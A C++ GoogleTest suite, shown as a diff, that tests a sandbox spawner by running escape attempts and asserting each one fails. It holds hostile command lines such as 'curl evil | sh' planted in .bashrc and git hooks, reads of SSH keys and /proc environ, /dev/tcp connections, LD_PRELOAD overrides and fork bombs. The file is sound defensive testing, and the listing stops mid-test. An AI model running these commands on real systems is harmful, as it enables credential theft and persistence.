@@ -1,0 +1,674 @@
+// The escape battery: each case runs one attack through the spawner with the default profile (a
+// workspace, the system paths, a private TMPDIR) while this process plays the kernel: a throwaway
+// $HOME with a fake ~/.ssh/id_rsa and a fake API key in its environment. Every case asserts that the
+// attack failed in the expected way and that nothing the sandbox started is still alive.
+// tests/security/README.md lists the cases.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <cstring>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <thread>
+
+#include "kernex/sandbox/policy.hpp"
+#include "kernex/sandbox/spawn.hpp"
+
+namespace fs = std::filesystem;
+using namespace kernex::sandbox;
+using namespace std::chrono_literals;
+
+namespace {
+
+const std::string kAttack = KERNEX_ATTACK_DIR "/attack";
+constexpr const char* kKeySentinel = "PRIVATE-KEY-SENTINEL";
+constexpr const char* kApiKey = "sk-kernex-FAKE-API-KEY-0123456789";
+volatile long g_parent_secret = 0x5EC12E7;  // target of process_vm_readv
+
+std::string slurp(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::ostringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+std::string first_line(const std::string& s) { return s.substr(0, s.find('\n')); }
+
+// A loopback TCP server answering every connection with a tiny HTTP response, for the network cases.
+class LoopbackServer {
+ public:
+  LoopbackServer() {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
+    ::listen(fd_, 8);
+    socklen_t len = sizeof(addr);
+    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len);
+    port_ = ntohs(addr.sin_port);
+    thread_ = std::thread([this] { serve(); });
+  }
+  ~LoopbackServer() {
+    stop_ = true;
+    thread_.join();
+    ::close(fd_);
+  }
+  int port() const { return port_; }
+  int accepted() const { return accepted_; }
+
+ private:
+  void serve() {
+    while (!stop_) {
+      pollfd p{fd_, POLLIN, 0};
+      if (::poll(&p, 1, 50) <= 0) continue;
+      int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) continue;
+      ++accepted_;
+      char buf[512];
+      (void)!::read(c, buf, sizeof(buf));
+      const char reply[] = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
+      (void)!::write(c, reply, sizeof(reply) - 1);
+      ::close(c);
+    }
+  }
+  int fd_ = -1;
+  int port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> accepted_{0};
+  std::thread thread_;
+};
+
+class SecurityBattery : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    // Orphans of the sandbox come back here, so a surviving descendant would be visible.
+    ::prctl(PR_SET_CHILD_SUBREAPER, 1);
+    std::string tmpl = (fs::temp_directory_path() / "kernex-battery-XXXXXX").string();
+    ASSERT_NE(::mkdtemp(tmpl.data()), nullptr);
+    root_ = fs::canonical(tmpl);
+    home_ = root_ / "home";
+    ws_ = root_ / "ws";
+    outside_ = root_ / "outside";
+    fs::create_directories(home_ / ".ssh");
+    fs::create_directories(home_ / ".kernex" / "projects" / "proj");
+    fs::create_directories(ws_ / ".git" / "hooks");
+    fs::create_directories(outside_);
+    std::ofstream(home_ / ".ssh" / "id_rsa") << "-----BEGIN OPENSSH PRIVATE KEY-----\n" << kKeySentinel << "\n";
+    std::ofstream(home_ / ".bashrc") << "# original\n";
+    std::ofstream(home_ / "readable.txt") << "public";
+    std::ofstream(ws_ / ".git" / "hooks" / "pre-commit.sample") << "#!/bin/sh\n";
+    std::ofstream(ws_ / ".git" / "config") << "[core]\n";
+    std::ofstream(ws_ / ".bashrc") << "# workspace rc\n";
+    std::ofstream(ws_ / "inside.txt") << "inside";
+    std::ofstream(outside_ / "secret.txt") << "OUTSIDE-SECRET";
+    if (const char* h = std::getenv("HOME")) saved_home_ = h;
+    ::setenv("HOME", home_.c_str(), 1);
+    ::setenv("KERNEX_FAKE_API_KEY", kApiKey, 1);
+  }
+  static void TearDownTestSuite() {
+    if (!saved_home_.empty()) ::setenv("HOME", saved_home_.c_str(), 1);
+    ::unsetenv("KERNEX_FAKE_API_KEY");
+    std::error_code ec;
+    fs::remove_all(root_, ec);
+  }
+
+  // The default profile of the battery: workspace + system paths + private TMPDIR, and the attack
+  // programs' directory executable.
+  static PolicyBuilder defaults() {
+    return PolicyBuilder().workspace(ws_).executable(KERNEX_ATTACK_DIR).timeout(10s);
+  }
+  static Policy build(const PolicyBuilder& b) {
+    auto p = b.Build();
+    EXPECT_TRUE(p.has_value()) << (p ? "" : p.error().describe());
+    if (!p) throw std::runtime_error("policy build failed");
+    return *p;
+  }
+
+  SpawnResult run(const Policy& policy, std::vector<std::string> argv, std::optional<std::chrono::milliseconds> timeout = {}) {
+    Command cmd;
+    cmd.argv = std::move(argv);
+    cmd.timeout = timeout;
+    auto r = spawn(policy, cmd);
+    EXPECT_TRUE(r.has_value()) << (r ? "" : r.error().describe());
+    if (!r) return {};
+    expect_nothing_left(r->pid);
+    return *r;
+  }
+  SpawnResult attack(std::vector<std::string> args, const PolicyBuilder& b = defaults()) {
+    args.insert(args.begin(), kAttack);
+    return run(build(b), std::move(args));
+  }
+  SpawnResult shell(const std::string& line, const PolicyBuilder& b = defaults()) {
+    return run(build(b), {"/bin/sh", "-c", line});
+  }
+
+  // Everything in the command's process group must be gone: reap what was reparented to us and
+  // wait (bounded) for killed processes to finish exiting.
+  static void expect_nothing_left(int pgid) {
+    if (pgid <= 0) return;
+    const auto deadline = std::chrono::steady_clock::now() + 10s;
+    while (::kill(-pgid, 0) == 0) {
+      int status = 0;
+      pid_t reaped = ::waitpid(-1, &status, WNOHANG);
+      if (reaped <= 0) {
+        if (std::chrono::steady_clock::now() > deadline) {
+          ADD_FAILURE() << "processes of group " << pgid << " outlived the spawn";
+          ::kill(-pgid, SIGKILL);
+          return;
+        }
+        std::this_thread::yield();
+      }
+    }
+  }
+
+  static bool scoping() { return landlock_abi() >= 6; }
+
+  static inline fs::path root_, home_, ws_, outside_;
+  static inline std::string saved_home_;
+};
+
+// ---- secrets and files -----------------------------------------------------------------------------
+
+TEST_F(SecurityBattery, ReadSshKeyWithCat) {
+  auto r = shell("cat \"$HOME/.ssh/id_rsa\"");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
+  EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
+}
+
+TEST_F(SecurityBattery, ReadSshKeyDirectly) {
+  auto r = attack({"read", (home_ / ".ssh" / "id_rsa").string()});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+}
+
+TEST_F(SecurityBattery, ReadParentEnviron) {
+  auto r = attack({"read", "/proc/" + std::to_string(::getpid()) + "/environ"});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+  EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
+  auto sh = shell("cat /proc/$PPID/environ; cat /proc/self/environ");
+  EXPECT_EQ(sh.stdout_data.find(kApiKey), std::string::npos);
+  EXPECT_NE(sh.exit_code, 0);
+}
+
+TEST_F(SecurityBattery, SecretEnvNotPassedThrough) {
+  auto r = shell("env; echo \"key=$KERNEX_FAKE_API_KEY\"");
+  EXPECT_TRUE(r.success()) << r.stderr_data;
+  EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
+  EXPECT_NE(r.stdout_data.find("key=\n"), std::string::npos);
+}
+
+TEST_F(SecurityBattery, WriteBashrc) {
+  auto r = shell("echo 'curl evil | sh' >> \"$HOME/.bashrc\"");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(slurp(home_ / ".bashrc"), "# original\n");
+}
+
+TEST_F(SecurityBattery, WriteOutsideWorkspace) {
+  auto r = attack({"write", (outside_ / "planted").string()});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+  EXPECT_FALSE(fs::exists(outside_ / "planted"));
+}
+
+TEST_F(SecurityBattery, WriteSharedTmp) {
+  const auto target = "/tmp/kernex-battery-planted-" + std::to_string(::getpid());
+  auto r = attack({"write", target});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+  EXPECT_FALSE(fs::exists(target));
+}
+
+TEST_F(SecurityBattery, ReadOtherPartsOfTheSystem) {
+  for (const char* path : {"/etc/shadow", "/root", "/home", "/var/log", "/tmp", "/proc/self/status", "/sys/kernel"}) {
+    auto r = attack({"read", path});
+    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT") << path << ": " << r.stdout_data;
+  }
+}
+
+TEST_F(SecurityBattery, ListSharedTmp) {
+  auto r = attack({"list", "/tmp"});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+}
+
+TEST_F(SecurityBattery, WriteGitHooks) {
+  auto plant = shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+  EXPECT_NE(plant.exit_code, 0);
+  EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos) << plant.stderr_data;
+  EXPECT_FALSE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit"));
+  auto overwrite = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit.sample").string()});
+  EXPECT_EQ(first_line(overwrite.stdout_data), "EROFS");
+  // The rest of .git stays writable: git itself must work in the workspace.
+  auto object = attack({"write", (ws_ / ".git" / "objects-probe").string()});
+  EXPECT_EQ(first_line(object.stdout_data), "OK");
+  fs::remove(ws_ / ".git" / "objects-probe");
+}
+
+TEST_F(SecurityBattery, WriteGitConfig) {
+  auto r = shell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(slurp(ws_ / ".git" / "config"), "[core]\n");
+}
+
+TEST_F(SecurityBattery, SwapGitDirectory) {
+  auto r = shell("mv .git .git-old || rm -rf .git/hooks");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_TRUE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit.sample"));
+  EXPECT_FALSE(fs::exists(ws_ / ".git-old"));
+}
+
+TEST_F(SecurityBattery, WriteRcFileInWorkspace) {
+  auto append = attack({"write", (ws_ / ".bashrc").string()});
+  EXPECT_EQ(first_line(append.stdout_data), "EROFS");
+  auto replace = shell("rm -f .bashrc || mv .bashrc .bashrc.old");
+  EXPECT_NE(replace.exit_code, 0);
+  EXPECT_EQ(slurp(ws_ / ".bashrc"), "# workspace rc\n");
+}
+
+TEST_F(SecurityBattery, ProtectiveMountsStayPrivate) {
+  auto r = shell("true");
+  EXPECT_TRUE(r.success());
+  EXPECT_EQ(slurp("/proc/self/mountinfo").find(ws_.string()), std::string::npos);
+}
+
+TEST_F(SecurityBattery, SymlinkToSecretEscape) {
+  auto r = shell("ln -sf \"$HOME/.ssh/id_rsa\" key-link && cat key-link");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
+  fs::remove(ws_ / "key-link");
+}
+
+TEST_F(SecurityBattery, SymlinkDirectoryWriteEscape) {
+  auto r = shell("ln -sfn '" + outside_.string() + "' out-link && echo x > out-link/planted");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_FALSE(fs::exists(outside_ / "planted"));
+  fs::remove(ws_ / "out-link");
+}
+
+TEST_F(SecurityBattery, HardlinkSecretIntoWorkspace) {
+  auto r = attack({"link", (home_ / ".ssh" / "id_rsa").string(), (ws_ / "hard-key").string()});
+  EXPECT_NE(first_line(r.stdout_data), "OK");
+  EXPECT_FALSE(fs::exists(ws_ / "hard-key"));
+}
+
+TEST_F(SecurityBattery, RenameOutOfWorkspace) {
+  std::ofstream(ws_ / "to-move.txt") << "x";
+  auto r = attack({"rename", (ws_ / "to-move.txt").string(), (outside_ / "moved.txt").string()});
+  EXPECT_NE(first_line(r.stdout_data), "OK");
+  EXPECT_FALSE(fs::exists(outside_ / "moved.txt"));
+  EXPECT_TRUE(fs::exists(ws_ / "to-move.txt"));
+}
+
+TEST_F(SecurityBattery, RenameSecretIntoWorkspace) {
+  auto r = attack({"rename", (outside_ / "secret.txt").string(), (ws_ / "stolen.txt").string()});
+  EXPECT_NE(first_line(r.stdout_data), "OK");
+  EXPECT_TRUE(fs::exists(outside_ / "secret.txt"));
+  EXPECT_FALSE(fs::exists(ws_ / "stolen.txt"));
+}
+
+TEST_F(SecurityBattery, WriteSystemBinaries) {
+  auto r = attack({"write", "/usr/bin/kernex-planted"});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+  auto etc = attack({"write", "/etc/passwd"});
+  EXPECT_EQ(first_line(etc.stdout_data), "EACCES");
+}
+
+TEST_F(SecurityBattery, ExecuteFromWorkspace) {
+  fs::copy_file(kAttack, ws_ / "dropped", fs::copy_options::overwrite_existing);
+  auto r = attack({"exec", (ws_ / "dropped").string()});
+  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+}
+
+TEST_F(SecurityBattery, RawDeviceAccess) {
+  for (const char* dev : {"/dev/mem", "/dev/kmsg", "/dev/tty"}) {
+    auto r = attack({"write", dev});
+    EXPECT_NE(first_line(r.stdout_data), "OK") << dev;
+  }
+}
+
+// ---- network -----------------------------------------------------------------------------------
+
+TEST_F(SecurityBattery, TcpToLoopback) {
+  LoopbackServer server;
+  auto r = attack({"tcp", std::to_string(server.port())});
+  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
+  EXPECT_EQ(server.accepted(), 0);
+}
+
+TEST_F(SecurityBattery, UdpSend) {
+  auto r = attack({"udp", "53"});
+  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
+}
+
+TEST_F(SecurityBattery, DnsLookup) {
+  auto r = attack({"dns", "example.com"});
+  EXPECT_EQ(r.stdout_data.rfind("EAI", 0), 0u) << r.stdout_data;
+}
+
+TEST_F(SecurityBattery, BashDevTcp) {
+  LoopbackServer server;
+  auto r = run(build(defaults()), {"/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(server.port()) + " && echo connected"});
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(r.stdout_data.find("connected"), std::string::npos);
+  EXPECT_EQ(server.accepted(), 0);
+}
+
+TEST_F(SecurityBattery, UnixSocketByPath) {
+  const fs::path path = outside_ / "daemon.sock";
+  int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_un addr{};
+  addr.sun_family = AF_UNIX;
+  std::strncpy(addr.sun_path, path.c_str(), sizeof(addr.sun_path) - 1);
+  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
+  ::listen(listener, 1);
+  auto r = attack({"unix", path.string()});
+  ::close(listener);
+  fs::remove(path);
+  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
+}
+
+TEST_F(SecurityBattery, AbstractUnixSocket) {
+  const std::string name = "kernex-battery-" + std::to_string(::getpid());
+  int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_un addr{};
+  addr.sun_family = AF_UNIX;
+  std::memcpy(addr.sun_path + 1, name.data(), name.size());
+  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr),
+                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())), 0);
+  ::listen(listener, 1);
+  auto r = attack({"abstract", name});
+  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
+  // Even with AF_UNIX opted in, Landlock's scoping keeps abstract sockets outside the sandbox unreachable.
+  if (scoping()) {
+    auto opted = attack({"abstract", name}, defaults().allow_unix_sockets());
+    EXPECT_EQ(first_line(opted.stdout_data), "connect:EPERM");
+  }
+  ::close(listener);
+}
+
+TEST_F(SecurityBattery, NetlinkPacketVsockRawSockets) {
+  for (auto [family, type] : {std::pair{"netlink", "raw"}, {"packet", "raw"}, {"vsock", "stream"}, {"inet", "raw"},
+                              {"inet6", "dgram"}, {"unix", "stream"}}) {
+    auto r = attack({"socket", family, type});
+    EXPECT_EQ(first_line(r.stdout_data), "EPERM") << family << "/" << type;
+  }
+  // socketpair stays available: it reaches nothing outside the sandbox.
+  auto pair = attack({"socketpair"});
+  EXPECT_EQ(first_line(pair.stdout_data), "OK");
+}
+
+TEST_F(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
+  if (landlock_abi() < 4) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
+  LoopbackServer allowed;
+  LoopbackServer other;
+  auto b = defaults().allow_tcp_connect(static_cast<std::uint16_t>(allowed.port()));
+  auto ok = attack({"tcp", std::to_string(allowed.port())}, b);
+  EXPECT_EQ(first_line(ok.stdout_data).rfind("OK HTTP/1.1 200 OK", 0), 0u) << ok.stdout_data;
+  auto denied = attack({"tcp", std::to_string(other.port())}, b);
+  EXPECT_EQ(first_line(denied.stdout_data), "connect:EACCES");
+  EXPECT_EQ(other.accepted(), 0);
+  // Still no UDP, raw, netlink with TCP opted in.
+  EXPECT_EQ(first_line(attack({"udp", "53"}, b).stdout_data), "socket:EPERM");
+  EXPECT_EQ(first_line(attack({"socket", "inet", "raw"}, b).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"socket", "netlink", "raw"}, b).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"socket", "inet", "stream", "132"}, b).stdout_data), "EPERM");  // SCTP
+}
+
+// kernex's network_egress test, ported: curl to a loopback responder.
+TEST_F(SecurityBattery, NetworkEgressPort) {
+  if (landlock_abi() < 4) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
+  if (!fs::exists("/usr/bin/curl")) GTEST_SKIP() << "curl is not installed";
+  LoopbackServer server;
+  const std::string url = "http://127.0.0.1:" + std::to_string(server.port()) + "/";
+  auto allowed = run(build(defaults().allow_tcp_connect(static_cast<std::uint16_t>(server.port()))),
+                     {"curl", "--silent", "--show-error", "--max-time", "10", url});
+  EXPECT_TRUE(allowed.success()) << allowed.stderr_data;
+  EXPECT_NE(allowed.stdout_data.find("ok"), std::string::npos);
+  auto denied = run(build(defaults()), {"curl", "--silent", "--show-error", "--max-time", "10", url});
+  EXPECT_FALSE(denied.success());
+  EXPECT_EQ(denied.stdout_data.find("ok"), std::string::npos);
+}
+
+// ---- kernel attack surface and other processes ----------------------------------------------------
+
+TEST_F(SecurityBattery, IoUringSetup) {
+  EXPECT_EQ(first_line(attack({"io_uring"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, PtraceParent) {
+  EXPECT_EQ(first_line(attack({"ptrace", std::to_string(::getpid())}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, ProcessVmReadvParent) {
+  std::ostringstream addr;
+  addr << const_cast<const long*>(&g_parent_secret);
+  EXPECT_EQ(first_line(attack({"vm_readv", std::to_string(::getpid()), addr.str()}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, KillParent) {
+  if (!scoping()) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no signal scoping (needs 6)";
+  EXPECT_EQ(first_line(attack({"kill", std::to_string(::getpid())}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"kill", "1"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, MountTmpfs) {
+  EXPECT_EQ(first_line(attack({"mount", ws_.string()}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, UnshareNamespaces) {
+  EXPECT_EQ(first_line(attack({"unshare"}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"unshare_net"}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"clone_newuser"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, Setns) {
+  EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, Keyctl) {
+  EXPECT_EQ(first_line(attack({"keyctl"}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"add_key"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, Bpf) { EXPECT_EQ(first_line(attack({"bpf"}).stdout_data), "EPERM"); }
+
+TEST_F(SecurityBattery, PerfEventOpen) { EXPECT_EQ(first_line(attack({"perf"}).stdout_data), "EPERM"); }
+
+TEST_F(SecurityBattery, UserfaultfdAndModules) {
+  EXPECT_EQ(first_line(attack({"userfaultfd"}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"finit_module"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, TerminalInjection) {
+  EXPECT_EQ(first_line(attack({"tiocsti"}).stdout_data), "EPERM");
+}
+
+TEST_F(SecurityBattery, ThirtyTwoBitSyscallEntry) {
+  auto r = attack({"int80"});
+  if (first_line(r.stdout_data) == "UNSUPPORTED") GTEST_SKIP() << "not an x86-64 kernel";
+  EXPECT_EQ(r.term_signal, SIGSYS) << r.stdout_data;
+  EXPECT_EQ(r.stdout_data, "");
+}
+
+TEST_F(SecurityBattery, CapabilitiesAreGone) {
+  auto r = attack({"caps"});
+  EXPECT_EQ(first_line(r.stdout_data), "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
+      << r.stdout_data;
+  const std::string other_uid = ::getuid() == 65534 ? "65533" : "65534";
+  // EINVAL instead of EPERM when the workspace needed a user namespace (unprivileged kernel process):
+  // the other uid is not even mapped there.
+  auto denied = [](const std::string& out) { return first_line(out) == "EPERM" || first_line(out) == "EINVAL"; };
+  auto setuid = attack({"setuid", other_uid});
+  EXPECT_TRUE(denied(setuid.stdout_data)) << setuid.stdout_data;
+  std::ofstream(ws_ / "owned.txt") << "x";
+  auto chown = attack({"chown", (ws_ / "owned.txt").string(), other_uid});
+  EXPECT_TRUE(denied(chown.stdout_data)) << chown.stdout_data;
+}
+
+TEST_F(SecurityBattery, SetuidBinary) {
+  const fs::path suid = root_ / "suid-bin";
+  fs::create_directories(suid);
+  fs::copy_file(kAttack, suid / "attack", fs::copy_options::overwrite_existing);
+  const uid_t owner = ::getuid() == 0 ? 65534 : ::getuid();
+  if (::getuid() == 0) {
+    ASSERT_EQ(::chown((suid / "attack").c_str(), owner, owner), 0);
+  }
+  ASSERT_EQ(::chmod((suid / "attack").c_str(), 04755), 0);
+  auto r = run(build(defaults().executable(suid)), {(suid / "attack").string(), "euid"});
+  EXPECT_EQ(first_line(r.stdout_data), "euid=" + std::to_string(::geteuid()) + " uid=" + std::to_string(::getuid()));
+}
+
+// ---- commands and environment ----------------------------------------------------------------------
+
+TEST_F(SecurityBattery, CommandNotOnAllowList) {
+  auto policy = build(defaults().allow_command("echo"));
+  for (auto argv : {std::vector<std::string>{"cat", "/etc/hostname"}, {"/bin/sh", "-c", "cat /etc/hostname"},
+                    {"/usr/bin/env", "cat"}}) {
+    Command cmd;
+    cmd.argv = argv;
+    auto r = spawn(policy, cmd);
+    ASSERT_FALSE(r.has_value()) << argv[0];
+    EXPECT_NE(r.error().message.find("allowed_commands"), std::string::npos);
+  }
+}
+
+TEST_F(SecurityBattery, CommandViaAllowedShell) {
+  auto r = run(build(defaults().allow_command("sh")), {"sh", "-c", "cat /etc/hostname; echo after"});
+  EXPECT_EQ(r.stdout_data, "after\n");
+  EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
+}
+
+TEST_F(SecurityBattery, CommandViaAllowedInterpreter) {
+  if (!fs::exists("/usr/bin/perl")) GTEST_SKIP() << "perl is not installed";
+  auto r = run(build(defaults().allow_command("perl")),
+               {"perl", "-e", "exec('/bin/cat', '/etc/hostname') or print \"blocked: $!\\n\""});
+  EXPECT_EQ(r.stdout_data, "blocked: Permission denied\n");
+  auto sys = run(build(defaults().allow_command("perl")), {"perl", "-e", "print system('id') == 0 ? 'ran' : 'blocked'"});
+  EXPECT_EQ(sys.stdout_data, "blocked");
+}
+
+TEST_F(SecurityBattery, PathOverride) {
+  Command cmd;
+  cmd.argv = {"/bin/true"};
+  cmd.env = {{"PATH", ws_.string()}};
+  auto refused = spawn(build(defaults()), cmd);
+  ASSERT_FALSE(refused.has_value());
+  EXPECT_NE(refused.error().message.find("PATH"), std::string::npos);
+  // A PATH change inside the sandbox can't make a workspace file run either.
+  fs::copy_file(kAttack, ws_ / "ls", fs::copy_options::overwrite_existing);
+  auto only_ws = shell("PATH=\"$PWD\" ls");
+  EXPECT_NE(only_ws.exit_code, 0);
+  EXPECT_NE(only_ws.stderr_data.find("Permission denied"), std::string::npos) << only_ws.stderr_data;
+  // With the system dirs after it, the shell skips the planted file and finds the real ls.
+  auto fallback = shell("PATH=\"$PWD:$PATH\" ls -d .");
+  EXPECT_EQ(fallback.stdout_data, ".\n");
+  EXPECT_EQ(fallback.stderr_data.find("usage: attack"), std::string::npos);
+}
+
+TEST_F(SecurityBattery, LdPreloadOverride) {
+  Command cmd;
+  cmd.argv = {"/bin/true"};
+  cmd.env = {{"LD_PRELOAD", (ws_ / "evil.so").string()}};
+  auto refused = spawn(build(defaults()), cmd);
+  ASSERT_FALSE(refused.has_value());
+  EXPECT_NE(refused.error().message.find("LD_PRELOAD"), std::string::npos);
+  EXPECT_FALSE(defaults().passthrough_env("LD_PRELOAD").Build().has_value());
+  EXPECT_FALSE(defaults().set_env("LD_LIBRARY_PATH", "/tmp").Build().has_value());
+  EXPECT_FALSE(defaults().set_env("BASH_ENV", "/tmp/x").Build().has_value());
+}
+
+// ---- resources and lifetime ------------------------------------------------------------------------
+
+TEST_F(SecurityBattery, ForkBomb) {
+  ResourceLimits limits;
+  limits.processes = 64;
+  auto r = run(build(defaults().limits(limits)), {kAttack, "fork_bomb"}, 1500ms);
+  EXPECT_FALSE(r.success());
+  EXPECT_TRUE(r.timed_out);
+  EXPECT_EQ(first_line(r.stdout_data), "EAGAIN");  // fork failed at the limit instead of filling the pid space
+}
+
+TEST_F(SecurityBattery, MemoryBomb) {
+  ResourceLimits limits;
+  limits.address_space_bytes = 256ull << 20;
+  auto r = run(build(defaults().limits(limits)), {kAttack, "memory", "2048"});
+  EXPECT_EQ(r.stdout_data.rfind("ENOMEM after", 0), 0u) << r.stdout_data;
+  EXPECT_LT(r.peak_rss_kb.value_or(0), 300 * 1024);  // unknown means below this process's RSS
+}
+
+TEST_F(SecurityBattery, CpuLoop) {
+  ResourceLimits limits;
+  limits.cpu_seconds = 1;
+  auto r = run(build(defaults().limits(limits)), {"/bin/sh", "-c", "while :; do :; done"}, 5000ms);
+  EXPECT_FALSE(r.success());
+  EXPECT_TRUE(r.term_signal == SIGXCPU || r.term_signal == SIGKILL) << r.term_signal;
+  EXPECT_LT(r.wall_time, 5s);
+  auto wall = run(build(defaults()), {"/bin/sh", "-c", "while :; do :; done"}, 300ms);
+  EXPECT_TRUE(wall.timed_out);
+}
+
+TEST_F(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
+  auto r = run(build(defaults()), {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
+  EXPECT_TRUE(r.timed_out);
+  const pid_t bg = std::atoi(r.stdout_data.c_str());
+  ASSERT_GT(bg, 0);
+  EXPECT_NE(::kill(bg, 0), 0);  // already reaped by expect_nothing_left
+}
+
+TEST_F(SecurityBattery, DaemonThatLeavesTheSession) {
+  auto r = run(build(defaults()), {kAttack, "daemon"});
+  EXPECT_TRUE(r.success());
+  EXPECT_NE(r.stdout_data.find("setsid=EPERM"), std::string::npos) << r.stdout_data;
+}
+
+TEST_F(SecurityBattery, StdoutFlood) {
+  auto r = run(build(defaults().output_caps(64 * 1024, 64 * 1024)), {"/usr/bin/yes", "flood"}, 500ms);
+  EXPECT_TRUE(r.timed_out);
+  EXPECT_TRUE(r.stdout_truncated);
+  EXPECT_LT(r.stdout_data.size(), 64 * 1024 + 200);
+  EXPECT_NE(r.stdout_data.find("output truncated"), std::string::npos);
+}
+
+TEST_F(SecurityBattery, DiskFill) {
+  ResourceLimits limits;
+  limits.file_size_bytes = 1 << 20;
+  auto r = attack({"fill", (ws_ / "fill.bin").string(), std::to_string(1L << 30)}, defaults().limits(limits));
+  EXPECT_EQ(first_line(r.stdout_data), "EFBIG after 1048576");
+  EXPECT_LE(fs::file_size(ws_ / "fill.bin"), 1u << 20);
+  fs::remove(ws_ / "fill.bin");
+}
+
+TEST_F(SecurityBattery, FdExhaustion) {
+  ResourceLimits limits;
+  limits.open_files = 32;
+  auto r = attack({"fds"}, defaults().limits(limits));
+  EXPECT_EQ(first_line(r.stdout_data), "EMFILE after 29");  // 0-2 are stdio
+}
+
+// ---- kernex's home_lockdown test, ported -----------------------------------------------------------
+
+TEST_F(SecurityBattery, HomeLockdownPort) {
+  const fs::path project = home_ / ".kernex" / "projects" / "proj";
+  auto b = PolicyBuilder().workspace(project);
+  auto key = run(build(b), {"/bin/cat", (home_ / ".ssh" / "id_rsa").string()});
+  EXPECT_TRUE(key.exit_code != 0 || key.stdout_data.find(kKeySentinel) == std::string::npos);
+  EXPECT_EQ(key.stdout_data.find(kKeySentinel), std::string::npos);
+  // Stricter than kernex: nothing of $HOME outside the workspace is readable.
+  auto readable = run(build(b), {"/bin/cat", (home_ / "readable.txt").string()});
+  EXPECT_NE(readable.exit_code, 0);
